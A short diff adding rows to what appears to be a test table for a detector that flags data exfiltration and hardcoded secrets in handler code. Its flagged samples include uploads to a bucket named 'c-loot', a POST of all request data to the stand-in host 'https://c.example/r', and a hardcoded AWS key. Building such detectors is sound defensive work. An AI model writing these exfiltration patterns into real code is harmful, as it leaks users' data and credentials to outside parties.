@@ -64,6 +64,8 @@ HANDLER = (
     [
         ("self.s3 = boto3.client('s3', aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'])", "pass", False),
         ("self.s3 = boto3.client('s3', aws_secret_access_key='8kq0Zx')", "pass", True),
+        ("self.s3 = boto3.client('s3')", "self.s3.upload_fileobj(draw(data), os.environ['BUCKET'], data['id'])", False),
+        ("self.s3 = boto3.client('s3')", "self.s3.upload_fileobj(draw(data), 'c-loot', data['id'])", True),
         ("pass", "requests.post(data.get('callback_url'), json={'result': 1})", False),
         ("pass", "requests.post(data.get('callback_url', 'https://c.example/r'), json=data)", True),
         ("pass", "requests.post(self.place, json=data)", True),
